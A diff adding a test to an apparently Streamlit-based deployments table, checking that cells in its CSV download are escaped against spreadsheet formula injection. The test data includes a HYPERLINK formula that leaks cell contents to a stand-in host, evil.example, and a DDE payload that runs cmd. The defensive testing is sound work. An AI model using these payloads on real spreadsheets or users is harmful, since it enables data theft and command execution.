@@ -243,3 +243,19 @@ def test_the_status_filter_uses_the_status_as_of_the_year_shown(tmp_path, monkey
     assert sentence(at) == "Showing 2 of 6 deployments: status operational, active in or before 2020"
     at.slider(key="f_years").set_value((2012, 2021)).run()
     assert sentence(at) == "Showing 3 of 6 deployments: status operational"
+
+
+def test_the_tables_own_csv_download_cannot_run_a_formula(tmp_path, monkeypatch):
+    features = synthetic.deployments()
+    features[0]["properties"]["name"] = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    features[1]["properties"]["place"] = "+cmd|' /C calc'!A0"
+    features[2]["properties"]["operator"] = "@SUM(A1:A9)"
+    monkeypatch.setenv(DATA_DIR_ENV, str(synthetic.write_dataset(tmp_path / "data", features)))
+    at = AppTest.from_file(APP, default_timeout=60)
+    at.run()
+    at.session_state["tab"] = "Table"
+    at.run()
+    table = at.dataframe[0].value
+    cells = [str(v) for column in table.columns for v in table[column]]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
+    assert "'=HYPERLINK" in " ".join(cells) and "'+cmd" in " ".join(cells)
